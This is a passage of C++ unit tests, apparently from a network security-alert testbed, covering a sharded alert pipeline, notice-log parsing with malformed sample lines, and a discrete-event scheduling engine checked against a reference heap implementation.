              graph.joint_log_score(bp.map_assignment), 1e-9);
}

INSTANTIATE_TEST_SUITE_P(RandomSequences, DecodeMatchesMaxProduct, ::testing::Range(0, 20));

}  // namespace
}  // namespace at
