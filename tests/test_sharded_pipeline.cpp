// ShardedAlertPipeline determinism: any shard count must reproduce the
// serial AlertPipeline exactly — notifications, BHR audit trail, and
// counters — on a realistic day of noise + incidents. Plus the batch-parse
// property: parse_notice_batch agrees with parse_notice_line on every line,
// including malformed, comment, and blank ones.

#include <gtest/gtest.h>

#include <optional>
#include <string>
#include <vector>

#include "alerts/zeeklog.hpp"
#include "bhr/bhr.hpp"
#include "detect/detector.hpp"
#include "fg/model.hpp"
#include "incidents/generator.hpp"
#include "incidents/noise.hpp"
#include "testbed/sharded_pipeline.hpp"

namespace at::testbed {
namespace {

/// Seeded ~100k-alert day: background noise with incident timelines folded
/// in, the same shape the ingest bench uses.
const std::vector<alerts::Alert>& corpus_100k() {
  static const std::vector<alerts::Alert> stream = [] {
    incidents::DailyNoiseModel noise;
    const auto month = noise.sample_month(0, 1);
    auto alerts = noise.materialize_day(month[0], 100'000);
    incidents::CorpusConfig config;
    config.repetition_scale = 0.02;
    config.seed = 11;
    const auto corpus = incidents::CorpusGenerator(config).generate();
    for (const auto& incident : corpus.incidents) {
      for (const auto& entry : incident.timeline) {
        auto alert = entry.alert;
        alert.ts = ((alert.ts % util::kDay) + util::kDay) % util::kDay;
        alerts.push_back(std::move(alert));
      }
    }
    sort_timeline(alerts);
    return alerts;
  }();
  return stream;
}

const fg::ModelParams& trained_params() {
  static const fg::ModelParams params = [] {
    incidents::CorpusConfig config;
    config.repetition_scale = 0.02;
    config.seed = 7;
    return fg::learn_params(incidents::CorpusGenerator(config).generate());
  }();
  return params;
}

void add_detectors(auto& pipeline) {
  pipeline.add_detector("critical-alert",
                        [] { return std::make_unique<detect::CriticalAlertDetector>(); });
  auto compiled = fg::compile_params(trained_params());
  pipeline.add_detector("factor-graph", [compiled = std::move(compiled)] {
    return std::make_unique<detect::FactorGraphDetector>(compiled, 0.75);
  });
}

struct SerialRun {
  std::vector<Notification> notifications;
  std::vector<bhr::ApiCall> audit;
  std::uint64_t alerts_in = 0;
  std::uint64_t kept = 0;
  std::size_t tracked = 0;
  std::uint64_t evicted = 0;
};

const SerialRun& serial_run() {
  static const SerialRun run = [] {
    bhr::BlackHoleRouter router;
    AlertPipeline pipeline(PipelineConfig{}, &router);
    add_detectors(pipeline);
    for (const auto& alert : corpus_100k()) pipeline.on_alert(alert);
    SerialRun result;
    result.notifications = pipeline.notifications();
    result.audit = router.audit_log();
    result.alerts_in = pipeline.alerts_in();
    result.kept = pipeline.alerts_after_filter();
    result.tracked = pipeline.tracked_entities();
    result.evicted = pipeline.evicted_entities();
    return result;
  }();
  return run;
}

void expect_matches_serial(const ShardedAlertPipeline& pipeline,
                           const bhr::BlackHoleRouter& router) {
  const SerialRun& serial = serial_run();
  EXPECT_EQ(pipeline.alerts_in(), serial.alerts_in);
  EXPECT_EQ(pipeline.alerts_after_filter(), serial.kept);
  EXPECT_EQ(pipeline.tracked_entities(), serial.tracked);
  EXPECT_EQ(pipeline.evicted_entities(), serial.evicted);

  const auto& notes = pipeline.notifications();
  ASSERT_EQ(notes.size(), serial.notifications.size());
  for (std::size_t i = 0; i < notes.size(); ++i) {
    SCOPED_TRACE("notification " + std::to_string(i));
    EXPECT_EQ(notes[i].ts, serial.notifications[i].ts);
    EXPECT_EQ(notes[i].entity, serial.notifications[i].entity);
    EXPECT_EQ(notes[i].detector, serial.notifications[i].detector);
    EXPECT_EQ(notes[i].reason, serial.notifications[i].reason);
    EXPECT_EQ(notes[i].score, serial.notifications[i].score);
    EXPECT_EQ(notes[i].source, serial.notifications[i].source);
  }

  const auto& audit = router.audit_log();
  ASSERT_EQ(audit.size(), serial.audit.size());
  for (std::size_t i = 0; i < audit.size(); ++i) {
    SCOPED_TRACE("api call " + std::to_string(i));
    EXPECT_EQ(audit[i].ts, serial.audit[i].ts);
    EXPECT_EQ(audit[i].method, serial.audit[i].method);
    EXPECT_EQ(audit[i].source, serial.audit[i].source);
    EXPECT_EQ(audit[i].client, serial.audit[i].client);
    EXPECT_EQ(audit[i].ok, serial.audit[i].ok);
  }
}

class ShardedDeterminismTest : public ::testing::TestWithParam<std::size_t> {};

TEST_P(ShardedDeterminismTest, SpanIngestMatchesSerial) {
  ShardedPipelineConfig config;
  config.shards = GetParam();
  bhr::BlackHoleRouter router;
  ShardedAlertPipeline pipeline(config, &router);
  add_detectors(pipeline);
  pipeline.ingest(corpus_100k());
  pipeline.flush();
  EXPECT_EQ(pipeline.shard_count(), GetParam());
  expect_matches_serial(pipeline, router);
}

TEST_P(ShardedDeterminismTest, BatchIngestMatchesSerial) {
  const auto batch = alerts::parse_notice_batch(alerts::write_notice_log(corpus_100k()));
  ASSERT_EQ(batch.size(), corpus_100k().size());
  ShardedPipelineConfig config;
  config.shards = GetParam();
  bhr::BlackHoleRouter router;
  ShardedAlertPipeline pipeline(config, &router);
  add_detectors(pipeline);
  pipeline.ingest(batch);
  pipeline.flush();
  expect_matches_serial(pipeline, router);
}

TEST_P(ShardedDeterminismTest, StreamingSinkMatchesSerial) {
  ShardedPipelineConfig config;
  config.shards = GetParam();
  config.batch_size = 1000;  // force many intermediate drains
  bhr::BlackHoleRouter router;
  ShardedAlertPipeline pipeline(config, &router);
  add_detectors(pipeline);
  for (const auto& alert : corpus_100k()) pipeline.on_alert(alert);
  pipeline.flush();
  expect_matches_serial(pipeline, router);
}

INSTANTIATE_TEST_SUITE_P(Shards, ShardedDeterminismTest, ::testing::Values(1, 2, 8));

// --- Batch-parse property: agrees with parse_notice_line on every line ---

void expect_batch_agrees(const std::string& text) {
  // Per-line oracle.
  std::vector<alerts::Alert> expected;
  std::size_t expected_malformed = 0;
  std::size_t start = 0;
  while (start <= text.size()) {
    const auto nl = text.find('\n', start);
    const auto end = nl == std::string::npos ? text.size() : nl;
    const std::string_view line(text.data() + start, end - start);
    // Mirror read_notice_log's accounting: blank/comment lines are
    // skipped silently, other unparseable lines count as malformed.
    std::string_view trimmed = line;
    while (!trimmed.empty() && (trimmed.front() == ' ' || trimmed.front() == '\t' ||
                                trimmed.front() == '\r'))
      trimmed.remove_prefix(1);
    if (!trimmed.empty() && trimmed.front() != '#') {
      if (auto alert = alerts::parse_notice_line(line)) {
        expected.push_back(std::move(*alert));
      } else {
        ++expected_malformed;
      }
    }
    if (nl == std::string::npos) break;
    start = nl + 1;
  }

  const auto batch = alerts::parse_notice_batch(std::string(text));
  ASSERT_EQ(batch.size(), expected.size());
  EXPECT_EQ(batch.malformed, expected_malformed);
  for (std::size_t i = 0; i < batch.size(); ++i) {
    SCOPED_TRACE("row " + std::to_string(i));
    const alerts::Alert& want = expected[i];
    EXPECT_EQ(batch.ts[i], want.ts);
    EXPECT_EQ(batch.type[i], want.type);
    EXPECT_EQ(batch.origin[i], want.origin);
    EXPECT_EQ(batch.src_at(i), want.src);
    EXPECT_EQ(batch.host[i], want.host);
    EXPECT_EQ(batch.user[i], want.user);
    const alerts::Alert owned = batch.materialize(i);
    EXPECT_EQ(owned.ts, want.ts);
    EXPECT_EQ(owned.type, want.type);
    EXPECT_EQ(owned.origin, want.origin);
    EXPECT_EQ(owned.src, want.src);
    EXPECT_EQ(owned.host, want.host);
    EXPECT_EQ(owned.user, want.user);
    EXPECT_EQ(owned.metadata, want.metadata);
  }
}

TEST(ParseNoticeBatchTest, AgreesOnRealisticLog) {
  incidents::DailyNoiseModel noise;
  const auto month = noise.sample_month(3, 1);
  auto alerts = noise.materialize_day(month[0], 5'000);
  expect_batch_agrees(alerts::write_notice_log(alerts));
}

TEST(ParseNoticeBatchTest, AgreesOnAdversarialLines) {
  const auto& sample = corpus_100k().front();
  const std::string good = alerts::to_notice_line(sample);
  const std::string text =
      good + "\n" +
      "# comment line\n"
      "\n"
      "   \n"
      "\t\t\n"
      "not\ta\tnotice\n"                                      // too few fields
      "xyz\talert_ssh_bruteforce\th\tu\t1.2.3.4\tzeek\t-\n"   // bad ts
      "99\tno_such_alert\th\tu\t1.2.3.4\tzeek\t-\n"           // bad type
      "99\talert_ssh_bruteforce\th\tu\t999.2.3.4\tzeek\t-\n"  // bad src
      "99\talert_ssh_bruteforce\th\tu\t1.2.3.4\tnoisy\t-\n"   // bad origin
      "99\talert_ssh_bruteforce\th\tu\t1.2.3.4\tzeek\tnoeq\n"  // bad metadata
      "99\talert_ssh_bruteforce\th\tu\t1.2.3.4\tzeek\t-\textra\n"  // 8 fields
      "  " + good + "  \n" +                                  // padded, still valid
      "+99\talert_ssh_bruteforce\t-\t-\t-\tzeek\tk=v|a=b\n"   // '+' ts, metadata
      "99\talert_ssh_bruteforce\t-\t-\t-\treplay\t-";         // no trailing newline
  expect_batch_agrees(text);
}

TEST(ParseNoticeBatchTest, EmptyAndCommentOnlyLogs) {
  expect_batch_agrees("");
  expect_batch_agrees("\n\n\n");
  expect_batch_agrees("#separator \\t\n#fields ts note\n");
}

}  // namespace
}  // namespace at::testbed
