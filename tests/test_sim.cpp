// Discrete-event engine: ordering, determinism, cancellation, periodics.

#include <gtest/gtest.h>

#include "sim/engine.hpp"

namespace at::sim {
namespace {

TEST(Engine, ExecutesInTimeOrder) {
  Engine engine;
  std::vector<int> order;
  engine.schedule_at(30, [&](Engine&) { order.push_back(3); });
  engine.schedule_at(10, [&](Engine&) { order.push_back(1); });
  engine.schedule_at(20, [&](Engine&) { order.push_back(2); });
  EXPECT_EQ(engine.run(), 3u);
  EXPECT_EQ(order, (std::vector<int>{1, 2, 3}));
  EXPECT_EQ(engine.now(), 30);
}

TEST(Engine, StableTieBreaking) {
  Engine engine;
  std::vector<int> order;
  for (int i = 0; i < 5; ++i) {
    engine.schedule_at(7, [&order, i](Engine&) { order.push_back(i); });
  }
  engine.run();
  EXPECT_EQ(order, (std::vector<int>{0, 1, 2, 3, 4}));
}

TEST(Engine, RejectsPastScheduling) {
  Engine engine(100);
  EXPECT_THROW(engine.schedule_at(50, [](Engine&) {}), std::invalid_argument);
}

TEST(Engine, ScheduleInIsRelative) {
  Engine engine(1000);
  util::SimTime fired_at = 0;
  engine.schedule_in(25, [&](Engine& e) { fired_at = e.now(); });
  engine.run();
  EXPECT_EQ(fired_at, 1025);
}

TEST(Engine, CancelPreventsExecution) {
  Engine engine;
  bool fired = false;
  const auto id = engine.schedule_at(10, [&](Engine&) { fired = true; });
  EXPECT_TRUE(engine.cancel(id));
  EXPECT_FALSE(engine.cancel(id));  // already cancelled
  engine.run();
  EXPECT_FALSE(fired);
  EXPECT_EQ(engine.executed(), 0u);
}

TEST(Engine, RunUntilStopsAtBoundary) {
  Engine engine;
  int count = 0;
  engine.schedule_at(10, [&](Engine&) { ++count; });
  engine.schedule_at(20, [&](Engine&) { ++count; });
  engine.schedule_at(30, [&](Engine&) { ++count; });
  EXPECT_EQ(engine.run_until(20), 2u);
  EXPECT_EQ(count, 2);
  EXPECT_EQ(engine.now(), 20);
  EXPECT_EQ(engine.pending(), 1u);
  engine.run();
  EXPECT_EQ(count, 3);
}

TEST(Engine, RunUntilAdvancesClockWhenIdle) {
  Engine engine;
  engine.run_until(500);
  EXPECT_EQ(engine.now(), 500);
}

TEST(Engine, EventsCanScheduleMoreEvents) {
  Engine engine;
  std::vector<util::SimTime> times;
  engine.schedule_at(1, [&](Engine& e) {
    times.push_back(e.now());
    e.schedule_in(5, [&](Engine& e2) { times.push_back(e2.now()); });
  });
  engine.run();
  EXPECT_EQ(times, (std::vector<util::SimTime>{1, 6}));
}

TEST(PeriodicTaskTest, FiresEveryPeriodUntilStopped) {
  Engine engine;
  int fires = 0;
  PeriodicTask task(engine, 10, [&](Engine&) { ++fires; });
  engine.run_until(55);
  EXPECT_EQ(fires, 5);  // t = 10, 20, 30, 40, 50
  task.stop();
  engine.run_until(200);
  EXPECT_EQ(fires, 5);
  EXPECT_FALSE(task.running());
}

TEST(PeriodicTaskTest, SelfStopInsideCallback) {
  Engine engine;
  int fires = 0;
  PeriodicTask task(engine, 10, [&](Engine&) {
    if (++fires == 3) task.stop();
  });
  engine.run_until(1000);
  EXPECT_EQ(fires, 3);
}

TEST(PeriodicTaskTest, RejectsNonPositivePeriod) {
  Engine engine;
  EXPECT_THROW(PeriodicTask(engine, 0, [](Engine&) {}), std::invalid_argument);
}

TEST(Engine, DeterministicAcrossRuns) {
  auto run_once = [] {
    Engine engine;
    std::vector<int> order;
    for (int i = 0; i < 50; ++i) {
      engine.schedule_at(i % 7, [&order, i](Engine&) { order.push_back(i); });
    }
    engine.run();
    return order;
  };
  EXPECT_EQ(run_once(), run_once());
}

}  // namespace
}  // namespace at::sim
