// Discrete-event engine: ordering, determinism, cancellation, periodics.

#include <gtest/gtest.h>

#include <array>
#include <memory>
#include <string>

#include "sim/engine.hpp"

namespace at::sim {
namespace {

TEST(Engine, ExecutesInTimeOrder) {
  Engine engine;
  std::vector<int> order;
  engine.schedule_at(30, [&](Engine&) { order.push_back(3); });
  engine.schedule_at(10, [&](Engine&) { order.push_back(1); });
  engine.schedule_at(20, [&](Engine&) { order.push_back(2); });
  EXPECT_EQ(engine.run(), 3u);
  EXPECT_EQ(order, (std::vector<int>{1, 2, 3}));
  EXPECT_EQ(engine.now(), 30);
}

TEST(Engine, StableTieBreaking) {
  Engine engine;
  std::vector<int> order;
  for (int i = 0; i < 5; ++i) {
    engine.schedule_at(7, [&order, i](Engine&) { order.push_back(i); });
  }
  engine.run();
  EXPECT_EQ(order, (std::vector<int>{0, 1, 2, 3, 4}));
}

TEST(Engine, RejectsPastScheduling) {
  Engine engine(100);
  EXPECT_THROW(engine.schedule_at(50, [](Engine&) {}), std::invalid_argument);
}

TEST(Engine, ScheduleInIsRelative) {
  Engine engine(1000);
  util::SimTime fired_at = 0;
  engine.schedule_in(25, [&](Engine& e) { fired_at = e.now(); });
  engine.run();
  EXPECT_EQ(fired_at, 1025);
}

TEST(Engine, CancelPreventsExecution) {
  Engine engine;
  bool fired = false;
  const auto id = engine.schedule_at(10, [&](Engine&) { fired = true; });
  EXPECT_TRUE(engine.cancel(id));
  EXPECT_FALSE(engine.cancel(id));  // already cancelled
  engine.run();
  EXPECT_FALSE(fired);
  EXPECT_EQ(engine.executed(), 0u);
}

TEST(Engine, RunUntilStopsAtBoundary) {
  Engine engine;
  int count = 0;
  engine.schedule_at(10, [&](Engine&) { ++count; });
  engine.schedule_at(20, [&](Engine&) { ++count; });
  engine.schedule_at(30, [&](Engine&) { ++count; });
  EXPECT_EQ(engine.run_until(20), 2u);
  EXPECT_EQ(count, 2);
  EXPECT_EQ(engine.now(), 20);
  EXPECT_EQ(engine.pending(), 1u);
  engine.run();
  EXPECT_EQ(count, 3);
}

TEST(Engine, RunUntilAdvancesClockWhenIdle) {
  Engine engine;
  engine.run_until(500);
  EXPECT_EQ(engine.now(), 500);
}

TEST(Engine, EventsCanScheduleMoreEvents) {
  Engine engine;
  std::vector<util::SimTime> times;
  engine.schedule_at(1, [&](Engine& e) {
    times.push_back(e.now());
    e.schedule_in(5, [&](Engine& e2) { times.push_back(e2.now()); });
  });
  engine.run();
  EXPECT_EQ(times, (std::vector<util::SimTime>{1, 6}));
}

TEST(PeriodicTaskTest, FiresEveryPeriodUntilStopped) {
  Engine engine;
  int fires = 0;
  PeriodicTask task(engine, 10, [&](Engine&) { ++fires; });
  engine.run_until(55);
  EXPECT_EQ(fires, 5);  // t = 10, 20, 30, 40, 50
  task.stop();
  engine.run_until(200);
  EXPECT_EQ(fires, 5);
  EXPECT_FALSE(task.running());
}

TEST(PeriodicTaskTest, SelfStopInsideCallback) {
  Engine engine;
  int fires = 0;
  PeriodicTask task(engine, 10, [&](Engine&) {
    if (++fires == 3) task.stop();
  });
  engine.run_until(1000);
  EXPECT_EQ(fires, 3);
}

TEST(PeriodicTaskTest, RejectsNonPositivePeriod) {
  Engine engine;
  EXPECT_THROW(PeriodicTask(engine, 0, [](Engine&) {}), std::invalid_argument);
}

TEST(Engine, StatsCountSchedulesExecutionsAndCancels) {
  Engine engine;
  const auto id1 = engine.schedule_at(10, [](Engine&) {});
  engine.schedule_at(20, [](Engine&) {});
  engine.schedule_at(100000, [](Engine&) {});  // far future -> overflow heap
  EXPECT_TRUE(engine.cancel(id1));
  EXPECT_FALSE(engine.cancel(id1));
  engine.run();
  const auto stats = engine.stats();
  EXPECT_EQ(stats.scheduled, 3u);
  EXPECT_EQ(stats.executed, 2u);
  EXPECT_EQ(stats.cancelled, 1u);
  EXPECT_EQ(stats.cancel_misses, 1u);
  EXPECT_EQ(stats.pending, 0u);
  EXPECT_EQ(stats.max_pending, 3u);
  EXPECT_EQ(stats.overflow_events, 1u);
  EXPECT_EQ(stats.wheel_events, 2u);
  EXPECT_EQ(stats.inline_callbacks, 3u);
  EXPECT_EQ(stats.boxed_callbacks, 0u);
}

TEST(Engine, LargeCaptureListsAreBoxedAndStillRun) {
  Engine engine;
  // 64 bytes of captured state overflows the 48-byte inline slot.
  std::array<std::uint64_t, 8> payload{};
  payload.fill(7);
  std::uint64_t sum = 0;
  auto* out = &sum;
  engine.schedule_at(5, [payload, out](Engine&) {
    for (const auto v : payload) *out += v;
  });
  engine.run();
  EXPECT_EQ(sum, 56u);
  const auto stats = engine.stats();
  EXPECT_EQ(stats.boxed_callbacks, 1u);
  EXPECT_EQ(stats.inline_callbacks, 0u);
}

TEST(Engine, CancelFarFutureOverflowEvent) {
  Engine engine;
  bool fired = false;
  const auto id = engine.schedule_at(1000000, [&](Engine&) { fired = true; });
  engine.schedule_at(10, [](Engine&) {});
  EXPECT_EQ(engine.pending(), 2u);
  EXPECT_TRUE(engine.cancel(id));
  EXPECT_EQ(engine.pending(), 1u);
  engine.run();
  EXPECT_FALSE(fired);
  EXPECT_EQ(engine.now(), 10);  // the dead far event never drives the clock
  EXPECT_EQ(engine.executed(), 1u);
}

TEST(Engine, CancelOfInFlightEventReportsFalse) {
  Engine engine;
  EventId self = 0;
  bool cancel_result = true;
  self = engine.schedule_at(10, [&](Engine& e) { cancel_result = e.cancel(self); });
  engine.run();
  EXPECT_FALSE(cancel_result);  // already executing == already consumed
}

TEST(Engine, EventIdsAreNeverReusedAcrossSlotRecycling) {
  Engine engine;
  const auto id1 = engine.schedule_at(1, [](Engine&) {});
  engine.run();
  const auto id2 = engine.schedule_at(2, [](Engine&) {});  // recycles the slot
  EXPECT_NE(id1, id2);
  EXPECT_NE(id2, 0u);  // 0 stays a null sentinel (PeriodicTask relies on it)
  EXPECT_FALSE(engine.cancel(id1));  // the stale handle must not hit id2
  EXPECT_TRUE(engine.cancel(id2));
}

TEST(Engine, TraceRingRecordsLabeledLifecycle) {
  Engine engine;
  engine.enable_trace(8);
  const auto id1 = engine.schedule_at(10, [](Engine&) {}, "alpha");
  const auto id2 = engine.schedule_at(20, [](Engine&) {}, "beta");
  engine.cancel(id2);
  engine.run();
  const auto entries = engine.trace();
  ASSERT_EQ(entries.size(), 4u);  // s(alpha), s(beta), c(beta), x(alpha)
  EXPECT_EQ(entries[0].kind, 's');
  EXPECT_STREQ(entries[0].label, "alpha");
  EXPECT_EQ(entries[0].id, id1);
  EXPECT_EQ(entries[1].kind, 's');
  EXPECT_STREQ(entries[1].label, "beta");
  EXPECT_EQ(entries[2].kind, 'c');
  EXPECT_EQ(entries[2].id, id2);
  EXPECT_EQ(entries[2].when, 20);  // cancel records the event's deadline
  EXPECT_EQ(entries[3].kind, 'x');
  EXPECT_EQ(entries[3].id, id1);
  EXPECT_EQ(entries[3].when, 10);
}

TEST(Engine, TraceRingWrapsAndDisableClears) {
  Engine engine;
  engine.enable_trace(4);
  for (int i = 0; i < 10; ++i) {
    engine.schedule_at(i + 1, [](Engine&) {}, "ev");
  }
  auto entries = engine.trace();
  ASSERT_EQ(entries.size(), 4u);  // only the last four survive
  EXPECT_EQ(entries.front().when, 7);
  EXPECT_EQ(entries.back().when, 10);
  engine.disable_trace();
  EXPECT_TRUE(engine.trace().empty());
  engine.schedule_at(100, [](Engine&) {}, "after");  // dropped: trace is off
  EXPECT_TRUE(engine.trace().empty());
  engine.run();
}

TEST(Engine, TraceLabelsAreTruncatedNotOverrun) {
  Engine engine;
  engine.enable_trace(2);
  const std::string longlabel(200, 'x');
  engine.schedule_at(1, [](Engine&) {}, longlabel);
  const auto entries = engine.trace();
  ASSERT_EQ(entries.size(), 1u);
  EXPECT_EQ(std::string(entries[0].label).size(), Engine::TraceEntry::kLabelBytes - 1);
  engine.run();
}

TEST(PeriodicTaskTest, StopThenReArmWithFreshTask) {
  Engine engine;
  int first = 0;
  int second = 0;
  auto task = std::make_unique<PeriodicTask>(engine, 10, [&](Engine&) { ++first; });
  engine.run_until(35);
  task->stop();
  EXPECT_FALSE(task->running());
  EXPECT_EQ(engine.pending(), 0u);  // the armed event was cancelled
  task = std::make_unique<PeriodicTask>(engine, 7, [&](Engine&) { ++second; });
  engine.run_until(100);
  EXPECT_EQ(first, 3);   // 10, 20, 30
  EXPECT_EQ(second, 9);  // 42, 49, ..., 98
  task->stop();
}

TEST(PeriodicTaskTest, StopFromSeparateCallbackCancelsArmedEvent) {
  Engine engine;
  int fires = 0;
  PeriodicTask task(engine, 10, [&](Engine&) { ++fires; });
  engine.schedule_at(25, [&](Engine&) { task.stop(); });
  engine.run();  // must terminate: no armed event survives the stop
  EXPECT_EQ(fires, 2);
  EXPECT_EQ(engine.pending(), 0u);
}

TEST(Engine, DeterministicAcrossRuns) {
  auto run_once = [] {
    Engine engine;
    std::vector<int> order;
    for (int i = 0; i < 50; ++i) {
      engine.schedule_at(i % 7, [&order, i](Engine&) { order.push_back(i); });
    }
    engine.run();
    return order;
  };
  EXPECT_EQ(run_once(), run_once());
}

}  // namespace
}  // namespace at::sim
