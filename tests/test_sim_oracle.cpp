// Determinism oracle for the timing-wheel engine: a verbatim replica of
// the seed binary-heap scheduler (priority_queue + unordered_map + per-
// event std::function) is driven through the same randomized
// schedule/cancel/reschedule traces as sim::Engine, and every observable
// — execution order, cancel outcomes, clock values, executed/pending
// counts — must match event for event. Traces deliberately hammer the
// wheel's edge cases: same-tick ties, callbacks scheduling into the
// currently draining tick, far-future events (overflow heap + window
// re-base), cancels of overflow residents (lazy deletion), and schedules
// that land *behind* a re-based window.

#include <gtest/gtest.h>

#include <cstdint>
#include <functional>
#include <limits>
#include <queue>
#include <unordered_map>
#include <vector>

#include "sim/engine.hpp"
#include "util/rng.hpp"

namespace at {
namespace {

// --- seed engine replica (single-threaded; the locking never affected
// ordering) --------------------------------------------------------------

class ReferenceEngine {
 public:
  using Callback = std::function<void(ReferenceEngine&)>;

  explicit ReferenceEngine(util::SimTime start = 0) : now_(start) {}

  [[nodiscard]] util::SimTime now() const { return now_; }
  [[nodiscard]] std::size_t pending() const { return queue_.size() - cancelled_; }
  [[nodiscard]] std::uint64_t executed() const { return executed_; }

  sim::EventId schedule_at(util::SimTime when, Callback callback) {
    if (when < now_) throw std::invalid_argument("past");
    const sim::EventId id = next_id_++;
    queue_.push(Item{when, next_seq_++, id});
    callbacks_.emplace(id, std::move(callback));
    return id;
  }
  sim::EventId schedule_in(util::SimTime delay, Callback callback) {
    return schedule_at(now_ + delay, std::move(callback));
  }
  bool cancel(sim::EventId id) {
    const auto it = callbacks_.find(id);
    if (it == callbacks_.end()) return false;
    callbacks_.erase(it);
    ++cancelled_;
    return true;
  }
  bool step() { return pop_and_run(std::numeric_limits<util::SimTime>::max()); }
  std::uint64_t run_until(util::SimTime until) {
    std::uint64_t ran = 0;
    while (pop_and_run(until)) ++ran;
    if (now_ < until) now_ = until;
    return ran;
  }
  std::uint64_t run() {
    std::uint64_t ran = 0;
    while (step()) ++ran;
    return ran;
  }

 private:
  struct Item {
    util::SimTime when;
    std::uint64_t seq;
    sim::EventId id;
    bool operator>(const Item& other) const noexcept {
      if (when != other.when) return when > other.when;
      return seq > other.seq;
    }
  };

  bool pop_and_run(util::SimTime until) {
    while (!queue_.empty()) {
      const Item item = queue_.top();
      const auto it = callbacks_.find(item.id);
      if (it == callbacks_.end()) {
        queue_.pop();
        --cancelled_;
        continue;
      }
      if (item.when > until) return false;
      queue_.pop();
      now_ = item.when;
      Callback body = std::move(it->second);
      callbacks_.erase(it);
      ++executed_;
      body(*this);
      return true;
    }
    return false;
  }

  util::SimTime now_;
  std::uint64_t next_seq_ = 0;
  sim::EventId next_id_ = 1;
  std::uint64_t executed_ = 0;
  std::size_t cancelled_ = 0;
  std::priority_queue<Item, std::vector<Item>, std::greater<>> queue_;
  std::unordered_map<sim::EventId, Callback> callbacks_;
};

// --- generic trace driver ------------------------------------------------
//
// EventIds differ between the two engines (sequential vs. generation|slot),
// so operations name events by *birth order*; each run maps birth index to
// its own engine's id. The Rng is consumed in callback execution order —
// identical order implies identical draws, and any divergence snowballs
// into a mismatched log, which is exactly what the oracle must catch.

template <typename E>
class TraceRunner {
 public:
  explicit TraceRunner(std::uint64_t seed) : engine_(0), rng_(seed) {}

  std::vector<std::uint64_t> run_trace() {
    // Phase 1: dense population in [0, 60] — heavy same-tick ties.
    for (int i = 0; i < 200; ++i) spawn(rng_.uniform_int(0, 60), 0);
    // Far-future population (offsets past the 4096-tick wheel window).
    for (int i = 0; i < 60; ++i) spawn(rng_.uniform_int(5000, 60000), 0);
    // Pre-run cancels, including double-cancels and far-future victims.
    for (int i = 0; i < 80; ++i) cancel_random();

    note(engine_.run_until(30));
    note(engine_.now());

    // Mid-stream scheduling while the first window is partly drained.
    for (int i = 0; i < 100; ++i) {
      spawn(engine_.now() + rng_.uniform_int(0, 7000), 0);
    }
    for (int i = 0; i < 40; ++i) cancel_random();

    note(engine_.run_until(6000));  // crosses the first re-base
    note(engine_.now());

    // Idle advance beyond the populated region, then schedule *between*
    // the floor and the surviving far events — for the wheel this lands
    // behind the re-based window and must interleave via the heap.
    note(engine_.run_until(70000));
    note(engine_.now());
    for (int i = 0; i < 50; ++i) {
      spawn(engine_.now() + rng_.uniform_int(0, 300000), 0);
    }
    for (int i = 0; i < 30; ++i) cancel_random();

    note(engine_.run());
    note(engine_.now());
    note(engine_.executed());
    note(engine_.pending());
    return log_;
  }

 private:
  void note(std::uint64_t value) { log_.push_back(value); }

  void spawn(util::SimTime when, int depth) {
    const std::uint64_t birth = births_++;
    ids_.push_back(engine_.schedule_at(when, [this, birth, depth](E& eng) {
      log_.push_back(birth);
      log_.push_back(static_cast<std::uint64_t>(eng.now()));
      act_inside(eng, depth);
    }));
  }

  void cancel_random() {
    if (ids_.empty()) return;
    const auto victim = static_cast<std::size_t>(
        rng_.uniform_int(0, static_cast<std::int64_t>(ids_.size()) - 1));
    const bool ok = engine_.cancel(ids_[victim]);
    log_.push_back((ok ? 1000000000ULL : 2000000000ULL) + victim);
  }

  void act_inside(E& eng, int depth) {
    if (depth >= 3) return;
    const auto children = rng_.uniform_int(0, 2);
    for (std::int64_t i = 0; i < children; ++i) {
      // delta 0 schedules into the *currently draining* tick — the child
      // must still run within this tick, after already-queued peers.
      const util::SimTime delta = rng_.bernoulli(0.3) ? 0 : rng_.uniform_int(1, 5000);
      spawn(eng.now() + delta, depth + 1);
    }
    if (rng_.bernoulli(0.4)) cancel_random();
    if (rng_.bernoulli(0.2)) {
      // Reschedule: cancel a victim and respawn it later (or same tick).
      const auto victim = static_cast<std::size_t>(
          rng_.uniform_int(0, static_cast<std::int64_t>(ids_.size()) - 1));
      if (engine_.cancel(ids_[victim])) {
        log_.push_back(3000000000ULL + victim);
        spawn(eng.now() + rng_.uniform_int(0, 100), depth + 1);
      }
    }
  }

  E engine_;
  util::Rng rng_;
  std::vector<sim::EventId> ids_;
  std::vector<std::uint64_t> log_;
  std::uint64_t births_ = 0;
};

class EngineDeterminismOracle : public ::testing::TestWithParam<int> {};

TEST_P(EngineDeterminismOracle, WheelMatchesSeedHeapOnRandomTraces) {
  const auto seed = static_cast<std::uint64_t>(GetParam()) * 7919 + 13;
  const auto reference = TraceRunner<ReferenceEngine>(seed).run_trace();
  const auto wheel = TraceRunner<sim::Engine>(seed).run_trace();
  ASSERT_EQ(reference.size(), wheel.size());
  for (std::size_t i = 0; i < reference.size(); ++i) {
    ASSERT_EQ(reference[i], wheel[i]) << "trace divergence at step " << i;
  }
}

INSTANTIATE_TEST_SUITE_P(Traces, EngineDeterminismOracle, ::testing::Range(0, 12));

// Deterministic construction of the backward-schedule case: a far event
// forces an early re-base during an intervening run_until, then a schedule
// lands between the advanced floor and the re-based window. The wheel must
// run it before the window resident, exactly like the reference heap.
TEST(EngineDeterminismOracle, ScheduleBehindRebasedWindowInterleaves) {
  ReferenceEngine reference(0);
  sim::Engine wheel(0);
  std::vector<int> ref_order;
  std::vector<int> wheel_order;

  reference.schedule_at(20000, [&](ReferenceEngine&) { ref_order.push_back(1); });
  wheel.schedule_at(20000, [&](sim::Engine&) { wheel_order.push_back(1); });
  // Drives the wheel's window to re-base onto offset 20000's neighborhood.
  EXPECT_EQ(reference.run_until(15000), 0u);
  EXPECT_EQ(wheel.run_until(15000), 0u);
  // 15500 is behind the re-based window base but ahead of the floor.
  reference.schedule_at(15500, [&](ReferenceEngine&) { ref_order.push_back(2); });
  wheel.schedule_at(15500, [&](sim::Engine&) { wheel_order.push_back(2); });
  reference.run();
  wheel.run();

  ASSERT_EQ(ref_order, (std::vector<int>{2, 1}));
  ASSERT_EQ(wheel_order, ref_order);
  EXPECT_EQ(wheel.now(), reference.now());
  EXPECT_EQ(wheel.executed(), reference.executed());
}

}  // namespace
}  // namespace at
