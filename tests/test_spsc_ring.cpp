// util::SpscRing: bounded single-producer single-consumer ring. Capacity
// rounding, full/empty edges, move-only payloads (try_push must leave the
// value untouched on refusal), FIFO order across wrap-around, and a
